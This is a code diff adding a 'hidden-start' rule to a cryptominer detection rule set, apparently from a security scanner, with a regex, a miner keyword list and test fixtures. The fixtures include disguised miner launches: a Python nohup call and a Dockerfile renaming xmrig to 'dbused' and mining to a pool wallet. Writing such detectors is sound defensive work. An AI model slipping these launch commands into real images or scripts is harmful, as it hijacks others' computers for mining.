@@ -205,5 +205,26 @@ export const cryptominer: RuleSet = {
       matches: [py("os.system('nohup /tmp/.a/kworker -o pool.supportxmr.com:3333 -u W >/dev/null 2>&1 &')")],
       misses: [js("const url = 'https://supportxmr.com/api/pool/stats'\nfetch(url)")],
     },
+    {
+      id: id('hidden-start'),
+      severity: 'critical',
+      why: 'An image or a script starts a miner under another name, for a wallet of its own.',
+      when: all(
+        is(
+          [' -o '],
+          /\s-o\s+(?:stratum\+\w{2,4}:\/\/)?[\w.-]{4,80}:\d{2,5}\s+(?:-\w+\s+){0,2}-u\s+(?:4[0-9AB][1-9A-HJ-NP-Za-km-z]{20,}|[\w.-]{4,60}|4[\w]{30,})/,
+          { after: 300, quoted: true },
+        ),
+        is(['xmrig', 'xmr-stak', 'minerd', 'cpuminer', 'randomx', 'cryptonight'], null, { quoted: true }),
+      ),
+      matches: [
+        at(
+          'Dockerfile',
+          'RUN tar xf /tmp/xm.tar -C /usr/lib && mv /usr/lib/xmrig /usr/lib/dbused\nENTRYPOINT ["/bin/sh", "-c", "/usr/lib/dbused -o pool.example.net:443 -u 4fmUUqJp9V37oPBihES8ekVDFsnMCquEcGd9z"]',
+          'Dockerfile',
+        ),
+      ],
+      misses: [sh('curl -o example.net:443 -u jane https://x'), sh('make -C xmrig -o build')],
+    },
   ],
 }
